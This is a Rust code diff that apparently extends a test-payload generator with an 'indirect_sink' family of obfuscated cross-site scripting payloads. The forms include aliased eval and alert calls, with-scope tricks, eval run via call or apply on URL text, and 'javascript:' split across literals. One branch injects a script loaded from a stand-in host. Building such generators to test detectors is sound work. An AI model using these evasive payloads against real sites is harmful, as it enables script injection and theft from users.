@@ -34,7 +34,13 @@ impl Family for XssJsExpression {
 
     fn generate(&self, rng: &mut Rng) -> Variant {
         let mut names: Vec<&'static str> = Vec::new();
-        let (expr, form) = if rng.chance(0.08) { (jsfuck_program(rng), "jsfuck") } else { expression(rng, &mut names) };
+        let (expr, form) = if rng.chance(0.08) {
+            (jsfuck_program(rng), "jsfuck")
+        } else if rng.chance(0.1) {
+            indirect_sink(rng)
+        } else {
+            expression(rng, &mut names)
+        };
         let mut muts = vec![form];
         muts.extend(names);
         let expr = if rng.chance(0.2) && form != "jsfuck" {
@@ -48,6 +54,61 @@ impl Family for XssJsExpression {
         let (payload, layer) = transport_layer(rng, &wrapped);
         muts.push(layer);
         Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value }
+    }
+}
+
+/// A sink reached without its name at the call site (issue 12's pool misses): stored in a
+/// variable first (`a=eval;b=alert;a(b(1))`), looked up through a `with` scope over a global
+/// (`with(location)with(hash)eval(substring(1))`), or `eval` run through `call`/`apply` on text
+/// from the URL (`eval.call(this,unescape.call(this,location))`).
+fn indirect_sink(rng: &mut Rng) -> (String, &'static str) {
+    let probe = *rng.pick(PROBES);
+    let (a, b) = *rng.pick(&[("a", "b"), ("x", "y"), ("_", "$"), ("f", "g"), ("ev", "pr")]);
+    let sep = *rng.pick(&[";", ",", "; ", ";\n"]);
+    let n = rng.range(0, 9999);
+    match rng.below(4) {
+        3 => {
+            // `javascript:` (or `eval`) spelled across literals the code joins, each piece
+            // alone naming nothing: `s1='jav';s2='ascr'+'ipt:';URL=s1+s2+...`.
+            let text = if rng.chance(0.6) { format!("javascript:{probe}({n})") } else { "eval".to_string() };
+            let mut pieces = Vec::new();
+            let mut rest = text.as_str();
+            while !rest.is_empty() {
+                let k = rng.range(1, 4).min(rest.len());
+                pieces.push(format!("'{}'", &rest[..k]));
+                rest = &rest[k..];
+            }
+            let glue = *rng.pick(&["+", "+''+", " + "]);
+            let joined = pieces.join(glue);
+            if text == "eval" {
+                (format!("{a}={joined};top[{a}]('{probe}({n})')"), "spelled-literals")
+            } else {
+                (format!("{a}={joined};location={a}"), "spelled-literals")
+            }
+        }
+        0 => {
+            let sink = *rng.pick(&["eval", "setTimeout", "Function"]);
+            let code = if rng.chance(0.5) { format!("{a}({b}({n}))") } else { format!("{a}('{probe}({n})')") };
+            let code = if sink == "Function" { format!("{code}()") } else { code };
+            (format!("{a}={sink}{sep}{b}={probe}{sep}{code}"), "sink-alias")
+        }
+        1 => {
+            let scope = *rng.pick(&["location", "document", "window", "top"]);
+            let body = match scope {
+                "location" => format!("with(hash)eval(substring({}))", rng.range(1, 3)),
+                "document" => "body.appendChild(createElement('script')).src='//x.example/x.js'".to_string(),
+                _ => format!("{probe}({n})"),
+            };
+            (format!("with({scope}){body}"), "with-scope")
+        }
+        _ => {
+            let how = *rng.pick(&["call", "apply"]);
+            let this = *rng.pick(&["this", "window", "null", "0"]);
+            let data =
+                *rng.pick(&["unescape.call(this,location)", "location.hash.slice(1)", "decodeURI(location.hash)", "atob(name)", "name"]);
+            let data = if how == "apply" { format!("[{data}]") } else { data.to_string() };
+            (format!("eval.{how}({this},{data})"), "eval-call")
+        }
     }
 }
 
